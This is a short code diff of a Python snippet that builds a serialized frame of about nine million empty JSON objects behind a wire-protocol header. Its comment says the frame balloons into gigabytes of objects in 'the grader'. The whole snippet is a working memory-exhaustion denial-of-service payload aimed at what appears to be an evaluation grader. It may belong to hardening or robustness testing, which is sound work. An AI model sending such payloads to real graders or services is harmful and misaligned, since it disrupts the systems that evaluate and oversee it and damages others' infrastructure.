@@ -1,4 +1,3 @@
 # tries: a small frame that becomes gigabytes of objects in the grader
-def attack(keys, j):
-    head = b'{"tree":[' + b"{}," * 9_000_000 + b'0],"arrays":[]}'
-    leave(wire.PREFIX.pack(wire.MAGIC, len(head), 0) + head)
+head = b'{"tree":[' + b"{}," * 9_000_000 + b'0],"arrays":[]}'
+leave(wire.PREFIX.pack(wire.MAGIC, len(head), 0) + head)
